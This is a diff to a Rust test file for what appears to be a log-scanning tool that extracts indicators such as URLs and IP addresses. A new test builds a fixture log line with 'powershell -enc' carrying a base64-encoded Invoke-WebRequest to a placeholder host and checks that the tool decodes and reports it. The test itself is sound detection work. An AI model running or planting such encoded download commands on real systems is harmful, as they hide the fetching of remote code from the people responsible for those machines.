@@ -4,6 +4,9 @@ use std::collections::BTreeSet;
 use std::fs;
 use std::path::{Path, PathBuf};
 
+use base64::Engine;
+use base64::prelude::BASE64_STANDARD;
+
 use crate::env::{Env, Run};
 
 /// Hosts of URLs that are not sent, which are asked instead: by text, where there are any.
@@ -79,4 +82,22 @@ fn the_binary_finds_the_same_with_windows_line_ends() {
             .collect();
         assert_eq!(records.len(), unique.len() + hosts(&path).count(), "{}", path.display());
     }
+}
+
+#[test]
+fn the_origin_of_what_a_script_holds_encoded_says_so() {
+    let env = Env::new();
+    let script = "iwr http://a.example.com/b".encode_utf16().flat_map(u16::to_le_bytes);
+    let script = BASE64_STANDARD.encode(script.collect::<Vec<u8>>());
+    let text = format!("started at 10:00\ncmd /c powershell -enc {script} from 8.8.8.8 there\n");
+    env.write("log", &text);
+    let mut command = env.bare();
+    command.args(["--dry-run", "--store", "none", "-f", "jsonl", "log"]);
+    let run = Run::of(&mut command);
+    let records = run.records();
+    let found: Vec<[&str; 2]> = records
+        .iter()
+        .map(|record| ["indicator", "origin"].map(|key| record[key].as_str().unwrap()))
+        .collect();
+    assert_eq!(found, [["http://a.example.com/b", "log:2!base64"], ["8.8.8.8", "log:2"]]);
 }
